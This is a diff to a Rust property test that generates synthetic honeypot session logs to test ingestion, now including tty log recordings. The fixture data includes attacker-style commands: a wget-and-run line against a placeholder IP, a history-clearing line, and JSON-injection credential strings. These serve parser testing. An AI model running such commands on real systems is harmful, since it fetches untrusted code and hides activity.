@@ -3,6 +3,7 @@
 use proptest::prelude::*;
 use proptest::sample::Index;
 
+use super::behaviour::{PASTED, TYPED, recording};
 use super::*;
 
 /// One row of a made-up log: who, which session, when, and what.
@@ -27,16 +28,17 @@ impl Line {
             "\",\"password\":\"x",
             "p\\u0000\",\"password\":\"y\\u0000",
         ];
-        let (event, more) = match what % 12 {
+        let (event, more) = match what % 13 {
             0 => ("session.connect", pick(&[r#","protocol":"ssh""#, r#","protocol":"telnet""#, r#","dst_port":2222"#, r#","dst_port":"23""#, ""])),
             1 => ("client.version", format!(",\"version\":\"{}\"", pick(&["SSH-2.0-Go", "b'SSH-2.0-x'", "GET / HTTP/1.1"]))),
             2 => ("client.kex", format!(",\"hassh\":\"{}\"", pick(&["51cba57125523ce4b9db67714a90bf6e", "4e066189c3bbeec38c99b1855113733a"]))),
             3 => ("login.failed", format!(",\"username\":\"{}\"", pick(&credential))),
             4 => ("login.success", format!(",\"username\":\"{}\"", pick(&credential))),
             5 => ("login.failed", pick(&[r#","username":null,"password":"x""#, r#","username":"root","fingerprint":"d4:98:c4:f3:12:ef:3e:29:38:34:62:21:fd:99:ec:ef""#])),
-            6..=8 => ("command.input", format!(",\"input\":\"{}\"", pick(&["uname -a", "w", " w ", "", "wget http://198.51.100.7/x; sh x", "\\u0000"]))),
+            6..=8 => ("command.input", format!(",\"input\":\"{}\"", pick(&["uname -a", "w", " w ", "", "wget http://198.51.100.7/x; sh x", "\\u0000", "rm x; w; history -c"]))),
             9 => ("session.file_download", r#","shasum":"b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c","url":"http://198.51.100.7/x""#.to_owned()),
             10 => ("direct-tcpip.request", pick(&[r#","dst_ip":"198.51.100.25","dst_port":25"#, r#","dst_ip":"mail.example.org","dst_port":25,"protocol":"ssh""#])),
+            11 => ("log.closed", format!(",\"ttylog\":\"log/tty/{}\"{}", pick(&[TYPED, PASTED, "missing"]), pick(&["", r#","duplicate":true"#]))),
             _ => ("session.closed", String::new()),
         };
         // Seconds run over a few days, so that sessions do too.
@@ -81,11 +83,14 @@ proptest! {
         sessions in 1..5_usize,
     ) {
         let lines: Vec<String> = log.iter().map(Line::text).collect();
-        let at_once = Place::new();
+        let (at_once, place) = (Place::new(), Place::new());
+        for name in [TYPED, PASTED] {
+            at_once.put(&format!("tty/{name}"), recording(name));
+            place.put(&format!("{name}.gz"), gzip(&recording(name)));
+        }
         let path = at_once.put("log.json", lines.concat());
         at_once.ingest(&[path]);
 
-        let place = Place::new();
         let config = IngestConfig { batch_bytes, open_sessions_max: sessions, ..IngestConfig::default() };
         // Some pieces, then everything from some line on, then backwards what is missing, then all again.
         let mut files: Vec<String> =
